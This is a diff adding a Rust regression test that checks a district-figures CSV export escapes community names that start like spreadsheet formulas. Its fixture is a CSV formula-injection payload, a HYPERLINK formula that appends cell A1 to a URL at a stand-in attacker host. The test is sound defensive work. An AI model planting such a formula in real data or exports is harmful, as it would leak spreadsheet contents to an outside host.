@@ -232,3 +232,48 @@ async fn a_dashboard_costs_the_statements_its_selection_needs() {
         "bounds {bounds}, figures {figures}, figures and rates {both}, everything {all}"
     );
 }
+
+/// A community named like a formula is text in the officer's CSV: the cell cannot run when
+/// the file is opened in Excel or WPS.
+#[tokio::test]
+async fn a_formula_in_a_name_is_text_in_the_csv() {
+    let app = TestApp::spawn().await;
+    let root = app.two_communities().await;
+    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")";
+    app.ok(
+        Some(&root),
+        None,
+        "mutation($n: String!) { onboardCommunity(input: {districtCode: \"510109\", slug: \"gamma\", name: $n, kind: OLD_COURTYARD}) { created } }",
+        json!({"n": hostile}),
+    )
+    .await;
+    let d = app
+        .ok(
+            Some(&root),
+            None,
+            "mutation { exportDistrictFigures(districtCode: \"510109\", from: \"2026-01-01\", to: \"2026-01-31\", format: CSV) { url } }",
+            json!({}),
+        )
+        .await;
+    let body = app
+        .http
+        .get(d["exportDistrictFigures"]["url"].as_str().unwrap())
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(true)
+        .from_reader(body.trim_start_matches('\u{feff}').as_bytes());
+    let names: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap()[1].to_string())
+        .collect();
+    assert!(names.contains(&format!("'{hostile}")), "{names:?}");
+    assert!(
+        names.iter().all(|n| !n.starts_with(['=', '+', '-', '@'])),
+        "{names:?}"
+    );
+}
